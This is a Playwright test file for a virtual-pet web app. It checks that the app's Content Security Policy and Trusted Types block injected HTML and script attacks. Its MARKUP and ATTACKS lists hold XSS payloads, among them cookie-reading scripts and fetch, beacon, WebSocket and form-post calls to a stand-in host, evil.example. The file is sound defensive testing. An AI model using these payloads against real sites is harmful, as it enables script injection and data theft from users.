import { type Page } from '@playwright/test'
import { WITH_SERVICE_WORKER, expect, test as base } from './test.ts'

declare global {
  /** Set by an attack that succeeded. */
  var stolen: string | undefined
  /** The directives that stopped something, in order. */
  var stopped: string[] | undefined
}

const EVIL = 'https://evil.example'

// What other tests must never see is the aim here: messages in the console, requests that set out and are stopped.
// oxlint-disable-next-line no-empty-pattern -- Playwright reads the names of the fixtures here.
const test = base.extend({ watched: ({}, use) => use() })

test.use(WITH_SERVICE_WORKER)

test.beforeEach(async ({ page }) => {
  await page.addInitScript(() => {
    globalThis.stopped = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      globalThis.stopped?.push(effectiveDirective),
    )
  })
})

/** Counts what reaches the attacker's server: it answers whatever is asked. */
async function evilServer(page: Page): Promise<string[]> {
  const reached: string[] = []
  await page.context().route(`${EVIL}/**`, (route) => {
    reached.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: 'stolen = "script of theirs"' })
  })
  return reached
}

function stopped(page: Page): Promise<string[]> {
  return page.evaluate(() => globalThis.stopped ?? [])
}

async function expectNothingStolen(page: Page, reached: string[]) {
  expect(await page.evaluate(() => globalThis.stolen)).toBeUndefined()
  expect(reached).toEqual([])
}

// What an attacker who can put text into our HTML would write.
const MARKUP = [
  ['a script', '<script>stolen = document.cookie</script>', 'script-src-elem'],
  ['a script of theirs', `<script src="${EVIL}/x.js"></script>`, 'script-src-elem'],
  ['a script in an address', '<script src="data:,stolen=1"></script>', 'script-src-elem'],
  ['a handler on a picture', '<img src="/icon.svg" onload="stolen = 1">', 'script-src-attr'],
  ['a handler on a drawing', '<svg onload="stolen = 1"></svg>', 'script-src-attr'],
  ['a style', '<style>body { display: none }</style>', 'style-src-elem'],
  ['a style attribute', '<p style="position: fixed; inset: 0">Sign in</p>', 'style-src-attr'],
  ['styles of theirs', `<link rel="stylesheet" href="${EVIL}/x.css">`, 'style-src-elem'],
  ['a picture that reports', `<img src="${EVIL}/x.png">`, 'img-src'],
  ['a frame', `<iframe src="${EVIL}"></iframe>`, 'frame-src'],
  ['an object', `<object data="${EVIL}/x.swf"></object>`, 'object-src'],
  ['an embedded file', `<embed src="${EVIL}/x.pdf">`, 'object-src'],
  ['a film', `<video src="${EVIL}/x.mp4" autoplay></video>`, 'media-src'],
  ['another base for all addresses', `<base href="${EVIL}">`, 'base-uri'],
] as const

test('Injected HTML does nothing, and the game works', async ({ page, game }) => {
  const reached = await evilServer(page)
  await page.route('/virtual-pet', async (route) => {
    const response = await route.fetch()
    const markup = MARKUP.map(([, text]) => text).join('')
    const body = (await response.text()).replace(/<body[^>]*>/, `$&${markup}`)
    await route.fulfill({ response, body })
  })
  await game.open()
  await game.createPet('Biscuit')
  await game.shows(50)
  const wanted = MARKUP.map(([, , directive]) => directive).sort()
  await expect.poll(async () => (await stopped(page)).sort()).toEqual(wanted)
  await expectNothingStolen(page, reached)
})

// What a script could do that got a text of an attacker's into its hands.
const ATTACKS = [
  // By a timer: what a debugger runs at once may always use eval.
  ['eval', "setTimeout(() => eval('stolen = 1'))", 'require-trusted-types-for'],
  [
    'a function from a text',
    "setTimeout(() => new Function('stolen = 1')())",
    'require-trusted-types-for',
  ],
  ['a timer with a text', "setTimeout('stolen = 1')", 'require-trusted-types-for'],
  [
    'HTML from a text',
    "document.body.innerHTML = '<img src=/icon.svg onload=stolen=1>'",
    'require-trusted-types-for',
  ],
  [
    'HTML added from a text',
    "document.body.insertAdjacentHTML('beforeend', '<svg onload=stolen=1>')",
    'require-trusted-types-for',
  ],
  [
    'document.write',
    "document.write('<script>stolen=1</scr' + 'ipt>')",
    'require-trusted-types-for',
  ],
  [
    'an element of script',
    "document.body.append(Object.assign(document.createElement('script'), { text: 'stolen=1' }))",
    'require-trusted-types-for',
  ],
  [
    'a script address from a text',
    `document.body.append(Object.assign(document.createElement('script'), { src: '${EVIL}/x.js' }))`,
    'require-trusted-types-for',
  ],
  [
    'a worker from memory',
    "new Worker(URL.createObjectURL(new Blob(['1'])))",
    'require-trusted-types-for',
  ],
  [
    'a service worker of another address',
    "navigator.serviceWorker.register('/icon.svg').catch(() => {})",
    'require-trusted-types-for',
  ],
  [
    'a policy that trusts everything',
    "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
    'trusted-types',
  ],
  [
    'our policy made a second time',
    "trustedTypes.createPolicy('rema-worker', { createScriptURL: (text) => text })",
    'trusted-types',
  ],
  ['a module of theirs', `import('${EVIL}/x.js').catch(() => {})`, 'script-src-elem'],
  ['a call to them', `fetch('${EVIL}/x').catch(() => {})`, 'connect-src'],
  ['a beacon to them', `navigator.sendBeacon('${EVIL}/x', 'secret')`, 'connect-src'],
  ['a socket to them', "new WebSocket('wss://evil.example/x')", 'connect-src'],
  [
    'a form that posts to them',
    `const form = document.createElement('form'); form.action = '${EVIL}/x'; form.method = 'post'; document.body.append(form); form.submit()`,
    'form-action',
  ],
  [
    'a link with a script for an address',
    "const link = document.createElement('a'); link.href = 'javascript:stolen=1'; document.body.append(link); link.click()",
    'script-src-elem',
  ],
] as const

test('Scripts cannot run injected text or reach another origin', async ({ page, game }) => {
  const reached = await evilServer(page)
  await game.open()
  await expect(game.nameField).toBeVisible()
  // Registering the worker is what makes the policy; a second one must not be possible.
  await page.evaluate(() => navigator.serviceWorker.ready)
  for (const [what, attack, directive] of ATTACKS) {
    const before = (await stopped(page)).length
    await page.evaluate(attack).catch(() => {})
    const seen = async () => (await stopped(page)).slice(before)
    await expect.poll(seen, `what stops ${what}`).toContain(directive)
  }
  await expectNothingStolen(page, reached)
})

test('An error in a script is reported with its place only', async ({ page }) => {
  await page.route('**/assets/*.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: "setTimeout(() => { throw new TypeError('Wunderkatze') })",
    }),
  )
  const sent = page.waitForRequest('**/api/browser-errors')
  await page.goto('/privacy?Wunderkatze')
  const request = await sent
  expect((await request.response())?.status()).toBe(204)
  expect(request.postDataJSON()).toEqual({
    script: expect.stringMatching(/^[\w-]+\.js$/),
    line: 1,
    column: expect.any(Number),
  })
})
